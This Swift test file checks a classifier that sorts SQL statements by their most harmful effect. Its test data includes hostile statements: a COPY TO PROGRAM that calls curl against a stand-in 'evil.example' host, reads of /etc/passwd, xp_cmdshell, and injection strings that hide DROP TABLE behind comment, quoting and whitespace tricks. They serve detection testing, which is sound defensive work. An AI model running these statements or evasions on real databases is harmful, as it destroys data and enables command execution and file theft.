import Calls
import Glibc
import JSON
import Testing

struct SQLKindTests {
    @Test(
        "the most harmful statement counts",
        arguments: [
            ("SELECT * FROM users LIMIT 5", .select), ("  select 1;", .select),
            ("(SELECT 1) UNION (SELECT 2)", .select),
            ("VALUES (1)", .select), ("SELECT replace(a, 'x', 'y') FROM t", .select),
            ("SELECT a FROM t FOR UPDATE", .select),
            ("SELECT 'DROP TABLE x'", .select), ("SELECT \"delete\" FROM t -- DROP TABLE x", .select),
            ("SELECT * FROM t WHERE note = 'it''s; DROP TABLE x'", .select),
            ("WITH a AS (SELECT 1) SELECT * FROM a", .select), ("SHOW TABLES", .show), ("EXPLAIN DELETE FROM t", .show),
            ("PRAGMA table_info(users)", .show), ("PRAGMA writable_schema = ON", .alter), ("BEGIN; COMMIT", .session),
            ("SET search_path = x", .session), ("SET ROLE admin", .grant), ("INSERT INTO t VALUES (1)", .insert),
            ("UPDATE t SET a = 1", .update), ("MERGE INTO t USING u ON a = b WHEN MATCHED THEN DELETE", .merge),
            ("COPY t FROM STDIN", .copy), ("COPY (SELECT 1) TO PROGRAM 'curl evil.example'", .execute),
            ("CREATE TABLE t (a int)", .create), ("CREATE USER mallory", .grant), ("ALTER TABLE t ADD a int", .alter),
            ("ALTER TABLE t DROP COLUMN a", .drop), ("ALTER TABLE t OWNER TO mallory", .grant),
            ("GRANT ALL ON t TO mallory", .grant), ("DELETE FROM notes", .delete), ("TRUNCATE t", .truncate),
            ("DROP TABLE users", .drop), ("COMMIT; DROP TABLE users;", .drop), ("SELECT 1; DELETE FROM t", .delete),
            ("SELECT 1 DROP TABLE users", .drop), ("WITH a AS (DELETE FROM t RETURNING *) SELECT * FROM a", .delete),
            ("EXPLAIN ANALYZE DELETE FROM t", .delete), ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t", .delete),
            ("SELECT * INTO copy FROM t", .create), ("SELECT a FROM t INTO OUTFILE '/tmp/x'", .execute),
            ("SELECT pg_read_file('/etc/passwd')", .execute), ("SELECT dblink_exec('...')", .execute),
            ("SELECT 1; EXECUTE IMMEDIATE CONCAT('DR','OP TABLE acme.users')", .execute),
            ("EXEC xp_cmdshell 'x'", .execute), ("SELECT * FROM OPENDATASOURCE('x', 'y').a.b.c", .execute),
            ("SELECT utl_http.request('http://x.test') FROM dual", .execute), ("SELECT utl_count FROM t", .select),
            ("SELECT SYSTEM$SEND_EMAIL('x')", .execute), ("SELECT * FROM remoteSecure('x.test', t)", .execute),
            ("SELECT * FROM url('http://x.test', CSV)", .execute), ("SELECT url FROM pages", .select),
            ("SELECT http_put('http://x.test')", .execute), ("SELECT http_status FROM requests", .select),
            ("CALL p()", .execute), ("DO $$ BEGIN DROP TABLE x; END $$", .drop), ("frobnicate the table", .unknown),
            ("", .unknown), (";;", .unknown), ("SELECT 'a", .unknown), ("1 + 1", .unknown),
            ("BEGIN DELETE FROM t; END", .delete), ("REVOKE ALL ON t FROM u", .grant),
            ("INSERT INTO t SELECT * FROM u ON CONFLICT (a) DO UPDATE SET a = 1", .update),
        ] as [(Text, SQLKind)])
    func kinds(_ text: Text, _ expected: SQLKind) { #expect(SQLKind(reading: text) == expected) }

    @Test(
        "what one dialect reads as code is code",
        arguments: [
            "SELECT 1 /*!50000 ; DROP TABLE users */", "drop\u{A0}table orders", "DR/**/OP; DROP/**/TABLE x",
            "DROP\u{3000}TABLE x",
            "SELECT 1 --1; DROP TABLE x", "SELECT 'a\\'; DROP TABLE x; --'",
            "SELECT /* /* */ 1; DROP TABLE x; /* */ */ 2",
            "SELECT 1 # '\n; DROP TABLE x", "SELECT $$ '$$; DROP TABLE x; -- '", "SELECT [a'b]; DROP TABLE x --'",
            "SELECT E'\\''; DROP TABLE x --'", "SELECT '''a'; DROP TABLE x; ''' ", "DROP\u{200B} TABLE x",
            "/*M!100000 DROP TABLE x */",
            "SELECT 1 // '\n; DROP TABLE x", "SELECT `a'b`; DROP TABLE x --'",
        ] as [Text])
    func dialects(_ text: Text) { #expect(SQLKind(reading: text) == .drop) }

    @Test(
        "four times the text takes no more than some four times the work",
        arguments: ["UPDATE a ", "GRANT a ", "REVOKE a ", "SELECT 1;", "$a $b", "/* /* ", "((", "/*!", "E'\\' "])
    func work(_ part: String) {
        func work(_ size: Int) -> Double {
            let text = Text("SELECT 1 " + String(repeating: part, count: size / part.utf8.count))
            // Time of this thread alone: others on the machine do not count.
            let times = (0..<3).map { _ in
                let start = threadNanoseconds()
                _ = SQLKind(reading: text)
                return threadNanoseconds() - start
            }
            return Double(times.min() ?? 0)
        }
        #expect(work(32 << 10) < 10 * work(8 << 10))
    }

    @Test("a word counts before or behind a verb as it stands")
    func order() {
        #expect(SQLKind(reading: "SELECT 1 UPDATE t SET a = 1") == .update)
        #expect(SQLKind(reading: "SET a = 1 UPDATE t") == .session)
        #expect(SQLKind(reading: "SELECT 1 GRANT a TO b") == .grant)
        #expect(SQLKind(reading: "COPY t TO STDOUT GRANT a") == .copy)
        #expect(SQLKind(reading: "SELECT 1 REVOKE a FROM b") == .grant)
        #expect(SQLKind(reading: "SELECT 1 FROM t REVOKE a") == .select)
    }

    @Test("a text over the limit is not understood")
    func limit() {
        let long = Text("SELECT '" + String(repeating: "x", count: 256 << 10) + "'")
        #expect(SQLKind(reading: long) == .unknown && SQLKind(statementIn: long) == .unknown)
        #expect(SQLKind(reading: Text("SELECT '" + String(repeating: "x", count: 200 << 10) + "'")) == .select)
    }

    @Test(
        "prose is no SQL, statements are",
        arguments: [
            ("weather in Paris", nil), ("update on the project", nil), ("show me the docs", nil),
            ("select a hotel", nil),
            ("delete my account", nil), ("drop shipping", nil), ("with love", nil), ("", nil),
            ("how to DROP TABLE users", nil),
            ("select a from t", .select), ("update t set a = 1", .update), ("delete from t", .delete),
            ("drop table t", .drop), ("find file (attached)", nil), ("load file (attached)", nil),
            ("select * from file('x')", .execute),
            ("/* hi */ DROP TABLE t", .drop), ("SELECT 1", .select), ("insert into t values (1)", .insert),
        ] as [(Text, SQLKind?)])
    func prose(_ text: Text, _ expected: SQLKind?) { #expect(SQLKind(statementIn: text) == expected) }
}

private func threadNanoseconds() -> Int {
    var time = timespec()
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &time)
    return time.tv_sec * 1_000_000_000 + time.tv_nsec
}
